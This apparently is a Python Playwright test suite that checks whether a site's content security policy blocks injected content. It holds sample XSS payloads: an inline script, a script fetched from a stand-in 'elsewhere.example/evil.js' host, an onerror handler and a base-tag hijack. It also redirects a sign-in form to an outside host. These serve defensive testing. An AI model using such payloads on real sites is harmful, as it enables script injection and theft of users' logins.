"""The content security policy in a real browser: our pages never break it, and what is smuggled in cannot run."""

from playwright.sync_api import Browser, Page, Route

from tests.look.school import Place, School
from tests.project.world import VISITOR

LISTEN = """
window.breaches = [];
addEventListener('securitypolicyviolation', (event) => window.breaches.push(event.effectiveDirective));
"""
SMUGGLED = """<script>window.broken = 'a script in the page'</script>
<script src="https://elsewhere.example/evil.js"></script>
<img src="/nothing.png" alt="" onerror="window.broken = 'a handler'">
<p style="position:fixed">A style</p>
<base href="https://elsewhere.example/">"""
REFUSED = ["script-src-elem", "script-src-attr", "style-src-attr", "base-uri"]
"""What is refused of it; the first of them twice."""


def complaints_of(school: School, page: Page, places: list[Place]) -> list[str]:
    """Walk the pages, one person after the other, and return what the browser complained of.

    That a page is refused or its link is dead (the world's tokens are nobody's) is no complaint.
    """
    found: list[str] = []
    said: list[tuple[str, str]] = []
    page.on("pageerror", lambda error: found.append(str(error)))
    page.on(
        "console", lambda each: said.append((each.location["url"], each.text)) if each.type == "error" else None
    )
    for who in dict.fromkeys(place.who for place in places):
        school.seat(page.context, who)
        said.clear()
        refused: set[str] = set()
        for place in (each for each in places if each.who == who):
            answer = page.goto(place.address)
            assert answer is not None
            found += [f"{place}: {each}" for each in page.evaluate("window.breaches")]
            refused |= {answer.url} if 400 <= answer.status < 500 else set()
        page.goto("about:blank")
        found += [f"{who} {address}: {text}" for address, text in said if address not in refused]
    return found


def test_no_page_breaks_the_policy_or_complains(school: School, browser: Browser) -> None:
    places = [*school.places("en"), *school.lessons()[::4]]
    with school.context(browser, VISITOR) as context:
        context.add_init_script(LISTEN)
        assert complaints_of(school, context.new_page(), places) == []


def smuggle(route: Route) -> None:
    """Put things into the page on its way, and leave its headers as they were."""
    answer = route.fetch()
    route.fulfill(response=answer, body=answer.text().replace("<main", f"{SMUGGLED}<main", 1))


def test_what_is_smuggled_into_a_page_cannot_run(school: School, browser: Browser) -> None:
    with school.context(browser, VISITOR) as context:
        context.add_init_script(LISTEN)
        page = context.new_page()
        page.route("**/en/help", smuggle)
        page.goto("/en/help")
        page.wait_for_function(
            "names => breaches.length > names.length && names.every(name => breaches.includes(name))",
            arg=REFUSED,
        )
        found = page.evaluate("[window.broken || 'nothing ran', document.baseURI, ...window.breaches]")
    ran, base, *breaches = found
    assert ran == "nothing ran" and base == f"{school.server.url}/en/help"
    assert set(REFUSED) <= set(breaches)


def test_a_form_cannot_be_sent_elsewhere(school: School, browser: Browser) -> None:
    with school.context(browser, VISITOR) as context:
        context.add_init_script(LISTEN)
        page = context.new_page()
        page.goto("/en/account/sign-in")
        page.evaluate(
            "() => { const form = document.querySelector('main form');"
            " form.action = 'https://elsewhere.example/'; form.submit(); }"
        )
        page.wait_for_function("() => window.breaches.includes('form-action')")
        assert page.url == f"{school.server.url}/en/account/sign-in"
